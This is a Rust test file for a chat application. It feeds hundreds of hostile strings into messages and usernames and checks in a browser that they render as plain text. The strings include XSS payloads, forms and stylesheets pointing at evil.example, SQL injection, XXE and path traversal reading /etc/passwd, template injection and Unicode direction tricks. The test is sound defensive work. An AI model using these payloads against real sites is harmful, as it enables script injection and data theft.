//! What people may say and call themselves to do harm, in hundreds of ways: it is text on the pages, and nothing else.

use serde_json::json;

use super::*;
use crate::support::DEADLINE;

/// Each is said as it is, and in each of `AROUND`.
const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<math><mtext></p><style><img src onerror=alert(1)></style>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "<title>gone</title>",
    "<!-- --><plaintext>",
    "<details open ontoggle=alert(1)>",
    "</article></div></main><h1>forged</h1>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:http://a.example/x",
    "file:///etc/passwd",
    "http://a.example/\"onmouseover=\"alert(1)",
    "http://a.example/<script>alert(1)</script>",
    "http://javascript:alert(1)@a.example/",
    "https://user:password@a.example:99999/",
    "http://[::1",
    "http://",
    "http://a.example/%00%0d%0aX-Header:%20x",
    "http://xn--80ak6aa92e.example/",
    "http://a.example/\u{202e}gpj.exe",
    "http://a.example/x#<b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{7*7} *{7*7} @{7*7}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "{\"type\":\"message\",\"__proto__\":{\"isAdmin\":true}}",
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;b&gt; &#x3c;script&#x3e; &amp;amp; &nbsp;",
    "expression(alert(1)); background:url(javascript:alert(1))",
    "\u{202e}drowssap\u{202c}",
    "\u{2066}\u{2067}\u{2068}isolated for ever",
    "\u{200f}\u{200e}\u{061c}marks of direction",
    "مرحبا <b>بكم</b> http://a.example/",
    "שלום `עולם` *כן*",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "👨\u{200d}👩\u{200d}👧\u{200d}👦\u{200d}👨\u{200d}👩\u{200d}👧\u{200d}👦",
    "🏳\u{fe0f}\u{200d}🌈🇩🇪🇫🇷👍🏽1\u{fe0f}\u{20e3}",
    "\u{feff}\u{200b}\u{2060}\u{ad}unseen\u{200b}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{e0041}\u{e0042}tags\u{e007f}",
    "\u{fdfa}\u{fdfd}𒐫꧅",
    "nul\u{0} bell\u{7} escape\u{1b}[31mred\u{1b}[0m \u{9b}31m \u{85} \u{2028} \u{2029}",
    "half \u{fffd} an emoji",
    "`",
    "``` ``` ```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "*</em><script>alert(1)</script>*",
    "**bold** __under__ ~~gone~~ > quote # heading - [link](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "@everyone @channel @<script>alert(1)</script>",
    ":smile: :<b>: ::",
    "//me /me /nick",
    "'; DROP TABLE events; --",
    "%s%n%x %d {0} {}",
    "..\\..\\../../etc/passwd",
    "COM1 NUL aux",
];

/// What stands around a text.
const AROUND: &[fn(&str) -> String] = &[
    |text| text.to_owned(),
    |text| format!("see {text}, (and {text})."),
    |text| format!("`{text}`"),
    |text| format!("*{text}*"),
    |text| format!("\u{202e}{text}"),
];

/// Those that are long, or many of a kind.
fn long_texts() -> Vec<String> {
    let repeated = [
        "a",
        "🎉",
        "字",
        "\u{202e}a",
        "<b>",
        "`",
        "*",
        "(",
        ")",
        "[](",
        "`*",
        "a\u{301}",
        "&",
        "\u{2068}",
        "😀\u{200d}",
    ];
    let mut texts: Vec<String> = repeated.iter().map(|piece| piece.repeat(4000 / piece.len())).collect();
    texts.push(format!(
        "stacked {}",
        "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{310}\u{311}\u{312}\u{313}\u{314}\u{317}\u{318}\u{319}\u{31a}"
            .repeat(30)
    ));
    texts.push("http://a.example/".to_owned() + &"x".repeat(3900));
    texts.push("http://a.example/".to_owned() + &"(".repeat(3900));
    texts.push("*a".repeat(1900));
    texts.push("```\n".repeat(900));
    texts.push("line\n".repeat(700));
    texts
}

/// All that a page has said to nobody, and was made to do.
const WATCH: &str = "(() => {
    window.hurt = [];
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) window[name] = () => window.hurt.push(name);
    document.addEventListener('securitypolicyviolation', (event) => window.hurt.push(event.violatedDirective));
})()";

/// What of the log is no text, and what the texts are, by the events' ids.
const SHOWN: &str = "(() => {
    const allowed = ['A', 'CODE', 'PRE', 'EM', 'MARK'];
    const attributes = ['href', 'target', 'rel', 'tabindex'];
    const odd = [];
    for (const element of document.querySelectorAll('#timeline .text *')) {
        const isGood = allowed.includes(element.tagName) && element.getAttributeNames().every((name) => attributes.includes(name))
            && (element.tagName !== 'A' || ['http:', 'https:'].includes(element.protocol));
        if (!isGood) odd.push(element.outerHTML);
    }
    for (const name of document.querySelectorAll('#timeline .name, #members .name')) {
        if (name.childElementCount > 0) odd.push(name.outerHTML);
    }
    // Whatever is stacked upon a letter is seen in its own line alone.
    for (const element of document.querySelectorAll('#timeline .slip, #members .name')) {
        if (!['clip', 'hidden'].includes(getComputedStyle(element).overflowY)) odd.push(element.className);
    }
    for (const box of [document.documentElement, document.querySelector('#timeline'), document.querySelector('#side')]) {
        if (box.scrollWidth > box.clientWidth) odd.push(`${box.id} is wider by ${box.scrollWidth - box.clientWidth} px`);
    }
    if (!/ – snug$/.test(document.title)) odd.push(document.title);
    const messages = [...document.querySelectorAll('#timeline .message[data-id]')];
    return [[...odd, ...window.hurt], messages.map((it) => [Number(it.dataset.id), it.querySelector('.text').textContent])];
})()";

/// A text without the marks that are shown as what they mean, and without spaces: blocks of code have none around them.
fn without_marks(text: &str) -> String {
    text.chars().filter(|character| !"`*".contains(*character) && !character.is_whitespace()).collect()
}

#[test]
fn five_hundred_hostile_texts_and_names_are_text() {
    let server = Server::with(&["--rate", "0", "--history", "5000", "--max-per-ip", "0", "--grace", "1m"]);
    let room = server.create_room();
    let chromium = Chromium::shared();
    let ana = chromium.open_window();
    ana.prepare_pages(WATCH);
    build_everything(&ana);
    join_room(&ana, &server, &room, "Ana");
    let mut ben = WebSocketClient::join(&server, &room, "Ben");
    let mut cleo = Nc::join(&server, &room, "cleo");

    let mut texts: Vec<String> = TEXTS.iter().flat_map(|text| AROUND.iter().map(move |around| around(text))).collect();
    texts.extend(long_texts());
    let mut said = 0;
    for (number, text) in texts.iter().enumerate() {
        // Whoever types in a terminal says a line at a time, and no control characters.
        if number % 4 == 3 && !text.contains(|character: char| character.is_control()) {
            cleo.type_line(&format!("say {text}"));
        } else {
            ben.say(text);
        }
        said += 1;
    }
    // Halves of emoji, as no well-formed text has them.
    for half in [r"\ud83d", r"\ude00", r"\ude00\ud83d", r"a\ud800b"] {
        ben.send_text(&format!(r#"{{"type":"message","text":"half {half}"}}"#));
        said += 1;
    }
    let mut guests = Vec::new();
    for (number, text) in TEXTS.iter().enumerate() {
        let name: String = text.chars().take(28).collect();
        let mut guest = WebSocketClient::connect(&server);
        guest.send(json!({"type": "join", "room": room, "name": format!("{number} {name}")}));
        // Some are no names; then nobody came in.
        if guest
            .expect_where("an answer", |answer| ["joined", "error"].contains(&answer["type"].as_str().unwrap_or("")))["type"]
            == "joined"
        {
            guest.say("I am called that.");
            guests.push(guest);
        }
    }
    assert!(said + guests.len() > 430 && guests.len() > 40, "{said} texts, {} names", guests.len());
    ben.say("the last one");
    // As the server tells them.
    let mut told = Vec::new();
    let started = std::time::Instant::now();
    loop {
        assert!(started.elapsed() < 3 * DEADLINE, "they are told");
        let message = ben.next();
        assert!(message["type"] != "error" || message["code"] == "text_empty", "{message}");
        if message["type"] != "message" {
            continue;
        }
        told.push((message["id"].as_u64().expect("an id"), message["text"].as_str().expect("a text").to_owned()));
        if message["text"] == "the last one" && message["name"] == "Ben" {
            break;
        }
    }
    wait_for_message(&ana, "the last one");
    let (odd, shown): (Vec<String>, Vec<(u64, String)>) =
        serde_json::from_value(ana.evaluate_promise(SHOWN)).expect("what is shown");
    assert_eq!(odd, [] as [&str; 0]);
    assert!(told.len() > 430, "{}", told.len());
    assert_eq!(shown.len(), told.len());
    for ((id, text), (shown_id, shown)) in told.iter().zip(&shown) {
        assert_eq!((id, without_marks(text)), (shown_id, without_marks(shown)));
    }
    // Who comes later has all of it at once, and is done no harm either.
    ana.reload();
    wait_until_connected(&ana);
    wait_for_message(&ana, "the last one");
    let odd = ana.evaluate_promise(SHOWN)[0].take();
    assert_eq!(odd, json!([]));
    assert_well_behaved(&ana, &server);
}
